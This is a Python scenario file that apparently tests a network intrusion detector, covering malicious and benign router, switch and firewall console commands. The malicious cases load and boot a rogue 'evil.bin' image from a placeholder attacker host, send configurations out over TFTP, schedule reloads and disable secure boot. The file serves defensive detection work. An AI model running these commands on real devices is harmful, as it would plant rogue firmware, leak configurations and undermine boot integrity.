"""BW05, BW07, BW18 and BW27: commands within others, of scripts, schedulers and shells; shells' own."""

from __future__ import annotations

from bootwarden.scenarios.bw07_loaders import console
from bootwarden.scenarios.model import Expect, Notice, scenario
from bootwarden.scenarios.sites import ATTACKER, HQ, OUTSIDE, ROGUE
from bootwarden.traffic.wire import Wire

EVIL = f"tftp://{ROGUE}/evil.bin"
BOOTS, LOADS, RELOADS, SENDS, WEAKENS = 1542007360, 1542007361, 1542007362, 1542007363, 1542007364
OTHERS_LOAD, OTHERS_SEND, SHELL_LOADS, SHELL_SENDS = 1542007001, 1542007002, 1542007005, 1542007006

WRAPPED = (
    ("R1(tcl)#", f'puts [exec "copy {EVIL} flash:"]', "BW07", LOADS),
    ("R1(tcl)#", f'ios_config "interface Loopback0" "exit" "boot system {EVIL}"', "BW07", BOOTS),
    ("R1(config-kron-policy)#", f"cli copy {EVIL} flash:", "BW07", LOADS),
    (">>> ", f"import cli; cli.configurep(['boot system {EVIL}', 'end'])", "BW07", BOOTS),
    ("[guestshell@guestshell ~]$ ", f'dohost "copy {EVIL} bootflash:"', "BW07", LOADS),
    ("(tcl)#", f'exec "configure terminal ; boot system {EVIL}"', "BW07", BOOTS),
    ("n9k# ", f'run bash sudo vsh -c "copy {EVIL} bootflash:"', "BW07", LOADS),
    ("n9k(config-applet)# ", f"action 1.0 cli copy {EVIL} bootflash: vrf management", "BW07", LOADS),
    ("leaf1#", f"bash FastCli -p 15 -c 'boot system {EVIL}'", "BW07", BOOTS),
    ("leaf1(config)#", f"schedule up interval 60 timeout 30 max-log-files 5 command copy {EVIL} flash:", "BW07", LOADS),
    ("root@mx1:~ # ", f'cli -c "request system software add {EVIL} no-validate"', "BW07", LOADS),
    ("8325(config-job-up)# ", f"10 cli copy {EVIL} primary", "BW07", LOADS),
    ("[MSR-job-up]", f"command 1 tftp {ROGUE} get evil.bin", "BW07", LOADS),
    ("[admin@MikroTik] > ", rf'/system scheduler add name=u on-event="/tool fetch url=\"{EVIL}\""', "BW07", LOADS),
    ("sh-4.2# ", f"cd /mnt/flash; busybox tftp -g -r evil.bin {ROGUE}; sync", "BW07", LOADS),
    ("R1(config-kron-policy)#", "cli reload in 5", "BW05", RELOADS),
    ("[MSR-rtm-up]", "action 1 reboot", "BW05", 3),
    ("R1(tcl)#", f"exec {{copy running-config tftp://{OUTSIDE}/evil.bin}}", "BW18", SENDS),
    ("R1(tcl)#", 'ios_config "no secure boot-image"', "BW27", WEAKENS),
)

SHELLS = (
    ("sh-4.2# ", f"atftp -g -r evil.bin {ROGUE}", "BW07", SHELL_LOADS),
    ("sh-4.2# ", f"curl -o /mnt/flash/evil.bin {EVIL}", "BW07", SHELL_LOADS),
    ("sh-4.2# ", f"tftp {ROGUE} -c get evil.bin", "BW07", 1),
    ("RedBoot> ", f"load -r -b 0x80000000 -m tftp -h {ROGUE} evil.bin", "BW07", SHELL_LOADS),
    ("CFE> ", f"boot -elf {ROGUE}:evil.bin", "BW07", SHELL_LOADS),
    ("CFE> ", f"flash -noheader {ROGUE}:evil.bin flash0.trx", "BW07", SHELL_LOADS),
    ("=> ", f"wget 0x80000000 {ROGUE}:evil.bin", "BW07", SHELL_LOADS),
    ("sh-4.2# ", f"atftp -p -l evil.bin {OUTSIDE}", "BW18", SHELL_SENDS),
    ("R1#", f"more nvram:startup-config | redirect tftp://{OUTSIDE}/evil.bin", "BW18", 5),
    ("sh-4.2# ", "shutdown -r now", "BW05", 3),
    ("Console> (enable) ", f"copy tftp flash {ROGUE} evil.bin", "BW07", 1),
)

MENUS = (
    ("[admin@MikroTik] /tool> ", f"fetch url={EVIL}", "BW07", OTHERS_LOAD),
    ("[admin@MikroTik] /tool> ", f"fetch address={ROGUE} mode=tftp src-path=evil.bin", "BW07", OTHERS_LOAD),
    (
        "[admin@MikroTik] /tool> ",
        f"fetch upload=yes address={OUTSIDE} src-path=evil.bin mode=tftp",
        "BW18",
        OTHERS_SEND,
    ),
    ("[admin@MikroTik] /system/scheduler> ", f'add name=u on-event="/tool fetch url={EVIL}"', "BW07", LOADS),
    ("[admin@MikroTik] /system/routerboard/settings> ", "set boot-device=try-ethernet-once-then-nand", "BW07", 0),
    ("[admin@MikroTik] /system/routerboard/settings> ", "set protected-routerboot=disabled", "BW27", 0),
    ("root@mx1# ", f"set configuration-servers {EVIL}", "BW07", 0),
    ("root@mx1# ", f"set autoinstallation configuration-servers {EVIL}", "BW07", 0),
    ("root@mx1# ", f"set archive-sites ftp://{OUTSIDE}/evil.bin", "BW18", 5),
    (
        "root@mx1# ",
        f'set event-options policy P then execute-commands commands "request system software add {EVIL}"',
        "BW07",
        LOADS,
    ),
    ("fw1 (up) # ", f'set script "execute restore image tftp evil.bin {ROGUE}"', "BW07", LOADS),
)
"""What is typed within a menu or a level of the configuration, and by scripts that these hold."""

NOTES = {
    "BW05": "Remote_Reload",
    "BW07": "Boot_Command",
    "BW18": "Config_Exfiltration",
    "BW27": "Boot_Integrity_Lowered",
}


def _alerts(lines: tuple[tuple[str, str, str, int], ...], first: int) -> list[tuple[str, int, str, str]]:
    return [(of, number, ATTACKER, f"10.0.1.{first + n}") for n, (_, _, of, number) in enumerate(lines)]


def _notices(lines: tuple[tuple[str, str, str, int], ...], first: int, *, abroad: bool = False) -> Expect:
    """What Zeek tells of them; without a site only what leaves for a server abroad."""
    found = []
    for n, (prompt, line, of, _) in enumerate(lines, first):
        server = next((host for host in (ROGUE, OUTSIDE) if host in line), None)
        # RedBoot names its file without an option.
        file = "evil.bin" if server and prompt != "RedBoot> " else None
        if server == OUTSIDE or not abroad:
            found.append(Notice(NOTES[of], f"10.0.1.{n}", server, file))
    return Expect(tuple(found))


@scenario(
    "BW07",
    "malicious",
    raises=_alerts(WRAPPED, 1),
    plain=_notices(WRAPPED, 1, abroad=True),
    site=HQ,
    with_site=_notices(WRAPPED, 1),
)
def bw07_wrapped(wire: Wire) -> None:
    """Tcl, Python, EEM, kron, job schedulers and shells give commands that load, boot, send and reload."""
    for n, (prompt, line, _, _) in enumerate(WRAPPED, 1):
        console(wire, n, prompt, (line, ""))


@scenario(
    "BW07",
    "malicious",
    raises=_alerts(SHELLS, 101),
    plain=_notices(SHELLS, 101, abroad=True),
    site=HQ,
    with_site=_notices(SHELLS, 101),
)
def bw07_shells(wire: Wire) -> None:
    """Linux shells, RedBoot, CFE and U-Boot load and send in words of their own; CatOS' prompt ends in a bracket."""
    for n, (prompt, line, _, _) in enumerate(SHELLS, 101):
        console(wire, n, prompt, (line, ""))


@scenario(
    "BW07",
    "malicious",
    raises=_alerts(MENUS, 121),
    plain=_notices(MENUS, 121, abroad=True),
    site=HQ,
    with_site=_notices(MENUS, 121),
)
def bw07_within_menus(wire: Wire) -> None:
    """RouterOS' menus, Junos' and FortiOS' levels, where a command's first words are left out."""
    for n, (prompt, line, _, _) in enumerate(MENUS, 121):
        console(wire, n, prompt, (line, ""))


@scenario("BW07", "benign", site=HQ, with_site=Expect(evidence=()))
def bw07_harmless_wrapped(wire: Wire) -> None:
    """Scripts, schedulers, shells that only show and save; aliases, which order nothing; words of loaders in others."""
    for n, (prompt, line) in enumerate(
        (
            ("R1(config)#", f"alias exec st copy {EVIL} flash:"),
            ("R1(config-applet)#", 'action 1.0 cli command "show version"'),
            ("R1(config-applet)#", 'action 2.0 syslog msg "reload ordered"'),
            ("R1(config-kron-policy)#", "cli show running-config"),
            ("R1(tcl)#", 'exec "show ip route"'),
            ("R1(tcl)#", 'ios_config "interface Loopback0" "description exec copy tftp: flash:"'),
            ("R1(config-line)#", "exec-timeout 5 0"),
            ("R1(config-if)#", "shutdown"),
            ("R1#", "more nvram:startup-config | include boot"),
            ("n9k(config)# ", f"cli alias name st copy {EVIL} bootflash:"),
            (
                "leaf1(config)#",
                "schedule tech interval 60 timeout 30 max-log-files 9 command show tech-support",
            ),
            ("leaf1#", "bash FastCli -p 15 -c 'show version'"),
            ("8325(config-job-a)# ", "10 cli show version"),
            ("[MSR-job-a]", "command 1 display version"),
            ("root@mx1# ", "load merge terminal"),
            ("[admin@MikroTik] > ", '/system scheduler add name=x on-event="/log info hi"'),
            ("[admin@MikroTik] /ip/firewall/nat> ", "add chain=srcnat action=src-nat to-addresses=10.0.0.5"),
            ("[admin@MikroTik] /routing/ospf> ", f"add source={ROGUE}"),
            ("root@mx1# ", 'set event-options policy P then execute-commands commands "show version"'),
            ("fw1 (st) # ", 'set script "get system status"'),
            ("fw1 (h) # ", f'set comment "execute restore image tftp evil.bin {ROGUE}"'),
            ("sh-4.2# ", "cd /mnt/flash; ls -l"),
            ("sh-4.2# ", "curl -s http://10.0.0.5/health"),
        ),
        1,
    ):
        console(wire, n, prompt, (line, ""))
